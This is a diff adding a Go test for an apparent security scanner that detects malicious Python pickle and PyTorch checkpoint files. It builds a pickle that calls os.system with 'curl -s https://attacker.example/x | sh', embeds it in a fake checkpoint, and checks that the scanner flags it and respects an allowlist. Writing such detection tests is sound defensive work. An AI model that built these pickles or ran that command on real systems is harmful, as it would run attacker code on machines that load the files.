@@ -1,0 +1,113 @@
+package scan
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/overshare/overshare/internal/config"
+	"github.com/overshare/overshare/internal/detect"
+	"github.com/overshare/overshare/internal/finding"
+)
+
+// reducePickle is a protocol 2 pickle that calls module.name(arg) when
+// loaded: PROTO, GLOBAL, BINUNICODE, TUPLE1, REDUCE, STOP.
+func reducePickle(module, name, arg string) []byte {
+	var b bytes.Buffer
+	b.WriteString("\x80\x02c" + module + "\n" + name + "\n")
+	b.WriteByte('X')
+	binary.Write(&b, binary.LittleEndian, uint32(len(arg)))
+	b.WriteString(arg + "\x85R.")
+	return b.Bytes()
+}
+
+func torchZip(t *testing.T, pkl []byte) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, data := range map[string][]byte{"archive/data.pkl": pkl, "archive/version": []byte("3\n")} {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write(data)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func TestModelFiles(t *testing.T) {
+	dir := t.TempDir()
+	evil := reducePickle("os", "system", "curl -s https://attacker.example/x | sh")
+	files := map[string][]byte{
+		"checkpoints/resnet.ckpt":   torchZip(t, evil),
+		"checkpoints/evil.pkl":      evil,
+		"checkpoints/benign.pkl":    []byte("\x80\x02}q\x00."),
+		"checkpoints/counter.pkl":   reducePickle("collections", "OrderedDict", ""),
+		"checkpoints/odd.pkl":       reducePickle("mylab.config", "Settings", "x"),
+		"docs/notes.txt":            []byte("cos is a function\nnot a pickle\n"),
+		"checkpoints/truncated.pkl": evil[:12],
+		"checkpoints/random.bin":    bytes.Repeat([]byte{0x42, 0x17, 0x99}, 100),
+	}
+	for name, data := range files {
+		p := filepath.Join(dir, name)
+		os.MkdirAll(filepath.Dir(p), 0o755)
+		if err := os.WriteFile(p, data, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	res := run(t, Options{Targets: []string{dir}})
+	byRule := map[string][]*finding.Finding{}
+	for _, f := range res.Findings {
+		byRule[f.Rule] = append(byRule[f.Rule], f)
+	}
+	exec := byRule[detect.RulePickleCodeExecution]
+	if len(exec) != 1 {
+		t.Fatalf("code-execution findings = %d, want 1 (one payload, several files): %+v", len(exec), res.Findings)
+	}
+	var paths []string
+	for _, l := range exec[0].Locations {
+		paths = append(paths, strings.TrimPrefix(l.Path, dir+"/"))
+	}
+	for _, want := range []string{"checkpoints/evil.pkl", "checkpoints/resnet.ckpt"} {
+		if !strings.Contains(strings.Join(paths, " "), want) {
+			t.Errorf("payload locations %v lack %s", paths, want)
+		}
+	}
+	if exec[0].Severity != finding.Critical || !strings.Contains(exec[0].Title, "runs code when loaded") {
+		t.Errorf("finding = %s %q", exec[0].Severity, exec[0].Title)
+	}
+	reasons := ""
+	for _, r := range exec[0].Reasons {
+		reasons += r.Text + "\n"
+	}
+	if !strings.Contains(reasons, "attacker.example") {
+		t.Errorf("reasons do not show the command as evidence:\n%s", reasons)
+	}
+	if n := len(byRule[detect.RulePickleSuspiciousImport]); n != 1 {
+		t.Errorf("suspicious findings = %d, want 1 (mylab.config.Settings)", n)
+	}
+	for _, f := range res.Findings {
+		for _, l := range f.Locations {
+			if strings.Contains(l.Path, "benign") || strings.Contains(l.Path, "counter") || strings.Contains(l.Path, "notes") || strings.Contains(l.Path, "random") {
+				t.Errorf("%s reported at %s", f.Rule, l.Path)
+			}
+		}
+	}
+
+	// A repository that vouches for its own class.
+	cfg := config.Default()
+	cfg.PickleAllow = []string{"mylab.config.Settings"}
+	res = run(t, Options{Targets: []string{dir}, Config: cfg})
+	for _, f := range res.Findings {
+		if f.Rule == detect.RulePickleSuspiciousImport {
+			t.Errorf("allowlisted class still reported: %q", f.Title)
+		}
+	}
+}
